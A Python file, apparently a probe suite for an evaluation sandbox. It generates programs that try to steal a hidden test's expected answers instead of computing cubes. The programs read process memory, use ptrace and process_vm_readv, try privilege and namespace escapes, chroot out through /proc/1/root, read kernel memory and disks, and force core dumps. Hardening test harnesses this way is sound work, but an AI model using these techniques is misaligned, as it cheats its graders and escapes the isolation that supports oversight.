"""Programs that try to reach the expected answers of a hidden test. Each prints what it finds.

A program gets a number and is to print its cube. `find` collects numbers as long as the cube.
"""

from __future__ import annotations

HONEST = "import sys; print(int(sys.argv[1]) ** 3)"
COMMON = """
import contextlib, ctypes, glob, os, re, signal, socket, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
found = set()
def find(data):
    found.update(re.findall(rb"(?<![0-9])[0-9]{15,18}(?![0-9])", data))
def read(path, size=1 << 24):
    with contextlib.suppress(OSError):
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        with open(fd, "rb") as file:
            find(file.read(size))
def walk(top):
    for folder, _, names in os.walk(top):
        for name in names:
            read(os.path.join(folder, name))
def memory(pid):
    with contextlib.suppress(OSError):
        for line in open(f"/proc/{pid}/maps"):
            place, rights = line.split()[:2]
            start, end = (int(x, 16) for x in place.split("-"))
            if rights.startswith("rw") and end - start < 1 << 27:
                with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb", 0) as file:
                    file.seek(start)
                    find(file.read(end - start))
def others():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
"""
READERS = {
    "memory of the parent": "memory(parent)",
    "memory of every process": "[memory(pid) for pid in others()]",
    "memory of the parent's threads": (
        "[memory(f'{parent}/task/{t}') for t in os.listdir(f'/proc/{parent}/task')]"
    ),
    "environment of every process": "[read(f'/proc/{pid}/environ') for pid in others()]",
    "command line of every process": "[read(f'/proc/{pid}/cmdline') for pid in others()]",
    "open files of every process": (
        "[read(f) for pid in others() for f in glob.glob(f'/proc/{pid}/fd/*')]"
    ),
    "mapped files of every process": (
        "[read(f) for pid in others() for f in glob.glob(f'/proc/{pid}/map_files/*')]"
    ),
    "folder of every process": "[walk(f'/proc/{pid}/cwd/') for pid in others()]",
    "root of every process": "[walk(f'/proc/{pid}/root/tmp') for pid in others()]",
    "hidden test at its path": "read('tests/test_hidden.py'); read('x/../tests/expected.txt')",
    "hidden test below the current folder": "walk('.')",
    "hidden test beside the current folder": "walk('..')",
    "temporary folders": "[walk(t) for t in ('/tmp', '/var/tmp', '/dev/shm', '/run', '/envgym')]",
    "own command line and environment": (
        "find(repr(sys.argv[2:]).encode()); find(repr(os.environ).encode())"
    ),
    "inherited descriptors": "[find(os.read(fd, 1 << 20)) for fd in range(3, 256) if ok(fd)]",
    "streams read backwards": "[read(f'/proc/self/fd/{n}') for n in (0, 1, 2)]",
    "ptrace": "traced = libc.ptrace(16, parent, 0, 0); traced == 0 and memory(parent)",
    "process_vm_readv": """
class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
try:
    lines = open(f"/proc/{parent}/maps").read().splitlines()
except OSError:
    lines = ["400000-10000000 rw"]
for line in lines:
    start, end = (int(x, 16) for x in line.split()[0].split("-"))
    buffer = ctypes.create_string_buffer(min(end - start, 1 << 24))
    mine, his = Vec(ctypes.addressof(buffer), len(buffer)), Vec(start, len(buffer))
    if libc.process_vm_readv(parent, ctypes.byref(mine), 1, ctypes.byref(his), 1, 0) > 0:
        find(buffer.raw)
""",
    "pidfd_getfd": """
pidfd = libc.syscall(434, parent, 0)
for number in range(64):
    got = libc.syscall(438, pidfd, number, 0)
    if got >= 0:
        read(f"/proc/self/fd/{got}")
""",
    "another user id": """
for call in (libc.setuid, libc.seteuid, libc.setgid):
    call(0)
libc.setresuid(0, 0, 0)
memory(parent); walk("/tmp")
""",
    "own user namespace": """
libc.unshare(0x10000000 | 0x00020000)
for file, text in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
    with contextlib.suppress(OSError):
        open(f"/proc/self/{file}", "w").write(text)
for place in (b"/tmp/check", b"/tmp/home", b"/tmp", b"/proc"):
    libc.umount2(place, 2)
libc.mount(b"proc", b"/proc", b"proc", 0, None)
[memory(pid) for pid in others()]; walk("/tmp")
""",
    "namespaces of the parent": """
for kind in ("user", "mnt", "pid"):
    with contextlib.suppress(OSError):
        libc.setns(os.open(f"/proc/{parent}/ns/{kind}", os.O_RDONLY), 0)
walk("/tmp")
""",
    "setuid programs": """
for name in ("su", "sudo", "pkexec", "mount", "newgrp", "passwd"):
    with contextlib.suppress(OSError, subprocess.TimeoutExpired):
        find(subprocess.run([name, "-c", "cat /tmp/test-*/files/tests/*"], capture_output=True,
            stdin=subprocess.DEVNULL, timeout=2).stdout)
""",
    "kernel memory": "[read(p, 1 << 20) for p in ('/proc/kcore', '/dev/mem', '/dev/kmsg')]",
    "disk of the machine": "[read(p, 1 << 20) for p in glob.glob('/dev/[svx]d*')]",
    "abstract sockets": """
for line in open("/proc/net/unix").read().splitlines()[1:]:
    with contextlib.suppress(OSError):
        link = socket.socket(socket.AF_UNIX); link.settimeout(0.2)
        link.connect(line.split()[-1].replace("@", "\\0")); find(link.recv(1 << 16))
""",
    "core dump of the parent": """
with contextlib.suppress(OSError):
    os.kill(parent, signal.SIGSEGV)
walk("."); walk("/var/crash"); walk("/var/lib/systemd/coredump")
""",
    "bytecode of the test": """
for top in ("/tmp", "/var/tmp", "/envgym"):
    for path in glob.glob(f"{top}/**/__pycache__/*", recursive=True):
        read(path)
""",
    "swapped hidden folder": """
with contextlib.suppress(OSError):
    os.rename("tests", "elsewhere")
os.makedirs("tests", exist_ok=True); walk("tests"); walk("elsewhere")
""",
    "escape by chroot": """
with contextlib.suppress(OSError):
    os.chroot("/proc/1/root")
walk("/tmp")
""",
}
"""Attempts to read the truth while a test runs, by name."""
PROGRAMS = {
    name: COMMON
    + ("def ok(fd):\n    import select\n    try: return select.select([fd], [], [], 0)[0]\n")
    + "    except (OSError, ValueError): return False\n"
    + "try:\n"
    + "".join(f"    {line}\n" for line in code.strip().splitlines())
    + "except Exception as error:\n    sys.stderr.write(repr(error))\n"
    + "print(*sorted(x.decode() for x in found))\n"
    for name, code in READERS.items()
}
"""Text of each program."""
